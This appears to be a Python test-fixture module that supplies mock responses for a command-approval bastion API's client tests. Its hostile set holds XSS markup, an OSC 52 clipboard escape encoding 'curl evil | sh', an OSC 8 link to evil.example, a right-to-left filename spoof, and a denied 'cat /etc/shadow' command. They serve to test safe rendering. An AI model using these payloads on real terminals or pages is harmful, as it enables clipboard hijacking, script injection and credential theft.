"""What the tests' API answers with: values of the shape that the API's own have, a harmless and a hostile set."""

from __future__ import annotations

import json
import time
from datetime import UTC, datetime
from typing import Any

Json = dict[str, Any]


def moment(seconds: float) -> str:
    """A time as the API tells it."""
    return datetime.fromtimestamp(seconds, UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")


POLICY = "sha256:" + "4be1f0" * 10 + "abcd"
RIGHT_TO_LEFT = "\u202e"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
"""OSC 52: what a terminal that obeys it puts into the clipboard."""
LINK = "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07"
"""OSC 8: what a terminal that obeys it makes a link of."""
MARKUP = "<img src=x onerror=alert(1)></pre></script><script>alert(2)</script>"
HOSTILE = (
    f"echo '{MARKUP}' \x1b[31mred\x1b[0m \x1b[2J {CLIPBOARD} {LINK} safe{RIGHT_TO_LEFT}fdp.exe\u200b\u2066 \x00\x07\x9b"
)


def approval(id: str = "k3v9x2m7qd", **other: Any) -> Json:
    """A request that waits, asked a minute ago, with nine minutes left."""
    now = time.time()
    return {
        "id": id,
        "state": "pending",
        "tenant": "acme",
        "identity": "repo:acme/shop",
        "issuer": "https://ci.acme.example",
        "subject": "repo:acme/shop",
        "principals": ["repo:acme/shop", "agent-7"],
        "groups": ["agents"],
        "owners": ["dev@acme"],
        "source": "10.2.0.17",
        "serial": 4211,
        "target": "web-1",
        "account": "deploy",
        "session": "s-0001",
        "kind": "exec",
        "text": "'systemctl' 'restart' 'nginx.service' && 'journalctl' '-u' 'nginx' '-n' '20' | 'grep' '-i' 'error'",
        "escaped": False,
        "cut": False,
        "written": "systemctl restart nginx.service && journalctl -u nginx -n 20 | grep -i error",
        "written_escaped": False,
        "directory": "",
        "rule": "restarts",
        "reason": "a restart drops live requests",
        "categories": ["stops-service"],
        "techniques": ["T1489"],
        "takes_commands": False,
        "policy": POLICY,
        "by": [{"groups": ["sre"], "count": 1}],
        "missing": 1,
        "asked": moment(now - 60),
        "ends": moment(now + 540),
        "mode": "hold",
        "votes": [],
        "may_vote": True,
        "may_deny": True,
        "why_not": None,
        "settled": None,
        "why": "",
        "grants": 1800,
        "past": past(),
        "past_whole": True,
        **other,
    }


def past() -> list[Json]:
    """What a session did before it asked."""
    now = time.time()
    return [
        {
            "time": moment(now - 300), "request": "exec", "text": "uptime", "effect": "allow", "rule": "look-around",
            "reason": "",
        },
        {
            "time": moment(now - 200), "request": "exec", "text": "cat /etc/shadow", "effect": "deny",
            "rule": "never-steal", "reason": "credential-access",
        },
    ]  # fmt: skip


def session(id: str = "s-0001", **other: Any) -> Json:
    return {
        "id": id,
        "tenant": "acme",
        "identity": "repo:acme/shop",
        "principals": ["repo:acme/shop", "agent-7"],
        "target": "web-1",
        "account": "deploy",
        "kind": "exec",
        "command": "'tail' '-f' '/var/log/nginx/error.log'",
        "escaped": False,
        "live": True,
        "source": "10.2.0.17",
        "serial": 4211,
        "instance": "bastion-a",
        "started": moment(time.time() - 372),
        "ended": None,
        "ending": False,
        "status": None,
        "reason": "",
        "recorded": True,
        **other,
    }


def recording(session: str = "s-0002", **other: Any) -> Json:
    return {
        "session": session,
        "tenant": "acme",
        "sha256": "9f" * 32,
        "size": 48213,
        "duration": 92.4,
        "started": moment(time.time() - 7300),
        "commands": 3,
        "verified": moment(time.time() - 60),
        "whole": True,
        **other,
    }


def cast(*events: tuple[float, str, str]) -> str:
    """A recording's text."""
    header = {"version": 2, "width": 80, "height": 24, "timestamp": 1790000000, "env": {"TERM": "xterm-256color"}}
    return "".join(f"{json.dumps(line)}\n" for line in (header, *events))


PLAIN_CAST = cast(
    (0.1, "m", "uptime (allowed by look-around)"),
    (0.3, "o", " 06:01:12 up 12 days,  3:04,  0 user,  load average: 0.08, 0.03, 0.01\r\n"),
    (20.0, "m", "cat /etc/shadow (denied by never-steal)"),
    (20.2, "o", "\x1b[31mbastion: denied by never-steal\x1b[0m\r\n"),
    (41.0, "m", "df -h (allowed by look-around)"),
    (41.5, "o", "Filesystem      Size  Used Avail Use% Mounted on\r\n/dev/vda1        40G   11G   27G  29% /\r\n"),
)
HOSTILE_CAST = cast(
    (0.1, "m", f"{MARKUP} {RIGHT_TO_LEFT}gpj.exe (allowed by look-around)"),
    (0.2, "i", "typed-secret"),
    (0.3, "o", f"{MARKUP}\r\n{CLIPBOARD}{LINK}\r\n\x1b]0;title\x07{RIGHT_TO_LEFT}abc\u2066def\r\n"),
    (0.4, "o", "x" * (200 << 10) + "\r\n"),
    (0.5, "o", "\x1b[?1049h\x1b[2J\x1b[Hthe end"),
)


def events() -> list[Json]:
    """Of the audit trail, the newest first."""
    common: Json = {
        "tenant": "acme",
        "identity": "repo:acme/shop",
        "target": "web-1",
        "account": "deploy",
        "session": "s-0001",
    }
    return [
        {
            "seq": 912, "previous": "ab" * 32, "time": "2026-11-27T22:14:09.120000Z", "kind": "approval-requested",
            **common, "rule": "restarts", "runs": "'systemctl' 'restart' 'nginx.service'",
        },
        {
            "seq": 911, "previous": "cd" * 32, "time": "2026-11-27T22:13:02.000001Z", "kind": "command-judged",
            **common, "request": "exec", "text": "echo \\x1b[2J \\xe2\\x80\\xae", "text_escaped": True, "runs": None,
            "effect": "deny", "rule": "undecidable", "reason": "a control character", "source": "10.2.0.17",
        },
        {
            "seq": 910, "previous": "ef" * 32, "time": "2026-11-27T22:12:00.000000Z", "kind": "login-refused",
            "source": "203.0.113.9", "connection": "c-77", "user": MARKUP, "reason": "no certificate",
        },
    ]  # fmt: skip


def policy(**other: Any) -> Json:
    return {
        "tenant": "acme",
        "version": POLICY,
        "mode": "enforce",
        "default": "deny",
        "undecidable": "deny",
        "rules": 14,
        "files": ["look.yaml", "never.yaml", "with-consent.yaml"],
        "problems": [],
        **other,
    }


EXPLAINED: Json = {
    "effect": "approve",
    "would": None,
    "rule": "change",
    "place": {"file": "with-consent.yaml", "line": 10, "column": 5},
    "reason": "this changes something; a person has to agree",
    "remedy": "ask someone of sre",
    "policy": POLICY,
    "commands": [
        {"argv": ["cat", "/var/log/syslog"], "effect": "allow", "rule": "look", "reason": ""},
        {
            "argv": ["tee", None],
            "effect": "approve",
            "rule": "change",
            "reason": "it writes what only the target knows",
        },
    ],
    "categories": [],
    "techniques": [],
    "findings": [],
    "undecidable": [],
    "runs": "'cat' '/var/log/syslog' | 'tee' \"$out\"",
}


def grant(id: str = "g-1", **other: Any) -> Json:
    now = time.time()
    return {
        "id": id,
        "identity": "repo:acme/shop",
        "rule": "restarts",
        "policy": POLICY,
        "request": "k3v9x2m7qd",
        "by": ["rev@acme"],
        "made": moment(now - 600),
        "ends": moment(now + 1200),
        "ended": None,
        "why": "",
        "live": True,
        **other,
    }


def me(**other: Any) -> Json:
    return {
        "tenant": "acme",
        "identity": "rev@acme",
        "issuer": "https://login.acme.example",
        "principals": ["rev@acme"],
        "groups": ["sre"],
        "roles": ["viewer", "auditor", "approver", "operator"],
        **other,
    }
